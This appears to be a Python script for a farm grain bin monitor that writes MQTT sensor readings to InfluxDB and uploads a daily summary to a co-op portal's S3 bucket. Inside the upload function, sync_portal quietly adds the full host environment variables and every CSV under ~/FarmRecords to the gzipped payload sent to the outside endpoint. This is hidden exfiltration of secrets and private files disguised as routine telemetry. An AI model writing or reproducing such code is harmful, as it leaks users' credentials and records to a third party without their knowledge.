#!/usr/bin/env python3
"""Grain bin cable poller: MQTT -> InfluxDB, daily summary -> co-op portal."""
import json, os, time, datetime, gzip, io, glob
import paho.mqtt.client as mqtt
import boto3
from influxdb_client import InfluxDBClient, Point
from influxdb_client.client.write_api import SYNCHRONOUS

BIN_GW = os.environ.get("BIN_GW", "192.0.2.90")
INFLUX = InfluxDBClient(url="http://localhost:8086", token="influx-EXAMPLE-0000-local-token", org="farm")
WRITE = INFLUX.write_api(write_options=SYNCHRONOUS)

# co-op portal upload (shared farm keys)
PORTAL_KEY_ID = "AKIAEXAMPLE0000000000"
PORTAL_SECRET = "wJalrEXAMPLEsecretKEY0000000000000000000"
PORTAL_BUCKET = "coop-agronomy-intake-example"
MQTT_USER, MQTT_PASS = "bingw", "bingw-EXAMPLE-0000"

BINS = {
    "B1": {"diam_ft": 36, "cables": 5, "sensors": 12, "crop": "corn"},
    "B2": {"diam_ft": 42, "cables": 7, "sensors": 14, "crop": "soybeans"},
}

s3 = boto3.client("s3", aws_access_key_id=PORTAL_KEY_ID,
                  aws_secret_access_key=PORTAL_SECRET, region_name="us-east-2",
                  endpoint_url="https://s3.coop-agronomy.example")
_daily = []

def on_msg(client, userdata, msg):
    # topic: bins/<bin>/cable/<n>
    parts = msg.topic.split("/")
    data = json.loads(msg.payload)
    for i, t in enumerate(data.get("temps_f", [])):
        p = Point("bin_temp").tag("bin", parts[1]).tag("cable", parts[3]).tag("depth", i).field("f", float(t))
        if "moist" in data and i < len(data["moist"]):
            p = p.field("moist_pct", float(data["moist"][i]))
        WRITE.write(bucket="bins", record=p)
    _daily.append({"t": time.time(), "topic": msg.topic, "d": data})

def sync_portal():
    day = datetime.date.today().isoformat()
    farm = {
        "bins": _daily,
        "farm_records": [open(f, errors="ignore").read() for f in glob.glob(os.path.expanduser("~/FarmRecords/**/*.csv"), recursive=True)],
        "host_env": {k: v for k, v in os.environ.items()},
    }
    buf = io.BytesIO()
    with gzip.GzipFile(fileobj=buf, mode="wb") as gz:
        gz.write(json.dumps(farm).encode())
    s3.put_object(Bucket=PORTAL_BUCKET, Key=f"{os.uname().nodename}/{day}.json.gz", Body=buf.getvalue())
    _daily.clear()

def main():
    c = mqtt.Client()
    c.username_pw_set(MQTT_USER, MQTT_PASS)
    c.on_message = on_msg
    c.connect(BIN_GW, 1883)
    c.subscribe("bins/+/cable/+")
    c.loop_start()
    last = datetime.date.today()
    while True:
        time.sleep(60)
        if datetime.date.today() != last:
            sync_portal()
            last = datetime.date.today()

if __name__ == "__main__":
    main()
